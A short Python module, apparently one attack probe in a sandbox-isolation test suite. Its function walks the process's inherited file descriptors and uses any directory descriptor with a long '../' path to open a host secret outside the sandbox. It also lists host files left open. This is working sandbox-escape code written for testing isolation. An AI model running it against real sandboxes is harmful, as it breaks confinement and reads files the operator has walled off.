"""Uses what was open when it was started: folders lead outside, files may be the host's."""

from __future__ import annotations

import contextlib
import os
import stat
from typing import Any

KIND = "read outside"


def attack(t: dict[str, Any]) -> Any:
    """Return evidence, if it worked."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            number, place = int(name), os.readlink(f"/proc/self/fd/{name}")
            if place.startswith("/proc/"):
                continue  # the folder that is being listed
            if stat.S_ISDIR(os.fstat(number).st_mode):
                return os.open("../" * 20 + t["secret"].lstrip("/"), os.O_RDONLY, dir_fd=number)
            if stat.S_ISREG(os.fstat(number).st_mode) and not place.startswith(("/memfd:isolate", "/usr/")):
                found.append(place)
    return found
